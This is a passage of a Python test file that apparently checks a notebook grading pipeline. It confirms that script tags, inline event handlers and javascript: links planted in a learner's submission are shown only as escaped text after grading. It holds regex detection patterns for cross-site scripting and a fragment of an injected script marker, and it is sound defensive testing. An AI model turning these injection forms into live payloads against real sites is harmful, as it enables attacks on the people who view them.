        for body in re.findall(r"<script[^>]*>(.*?)</script>", page_html, re.S | re.I)
        if "PWN" in body
    ]
    found += [
        m
        for m in re.findall(r"<[^>]*\son\w+\s*=[^>]*>", page_html, re.I)
        if "toggle_name(" not in m
    ]
    found += re.findall(r"""(?:href|src)\s*=\s*["']?\s*javascript:""", page_html, re.I)
    return found


def test_learner_markup_is_inert_where_the_instructor_looks(tmp_path):
    nb = insert_after(
        build(NB["04"], {"reflection_04_q1": XSS_REFLECTION}), "todo4_solution", XSS_OUTPUTS
    )
    subs, out = tmp_path / "submissions", tmp_path / "out"
    write(subs, "xss", NB["04"], nb)
    assert live_markup(formgrader_html(subs / "xss" / f"{NB['04']}.ipynb")), (
        "the checks see the attack when it is live"
    )
    run_grade(subs, out, "--workers", "1", "--cell-timeout", "10")
    assert grades(out)["xss"]["todo4_plan_decode"] == 2, "scores do not change"
    kept = next((out / "autograded" / "xss").rglob(f"{NB['04']}.ipynb"))
    graded = nbformat.read(kept, as_version=4)
    mimes = {
        m
        for c in graded.cells
        if c.cell_type == "code"
        for o in c.outputs
        for m in o.get("data", {})
    }
    assert mimes <= SAFE_MIMES, mimes
    assert any(
        "plain output stays" in o.get("text", "")
        for c in graded.cells
        if c.cell_type == "code"
        for o in c.outputs
    )
    reflection = next(
        c
        for c in graded.cells
        if c.metadata.get("nbgrader", {}).get("grade_id") == "reflection_04_q1"
    )
    assert (
        "shown as plain text for safety" in reflection.source
        and "\n`````text\n" in reflection.source
    )
    rendered = formgrader_html(kept)
    assert live_markup(rendered) == [] and "&lt;script&gt;window.PWN_SCRIPT" in rendered, (
        "shown, as text"
    )
    feedback = (out / "feedback" / "xss" / f"{NB['04']}.html").read_text(encoding="utf-8")
    assert not re.search(r"""(?:href|src)\s*=\s*["']?\s*javascript:""", feedback, re.I)
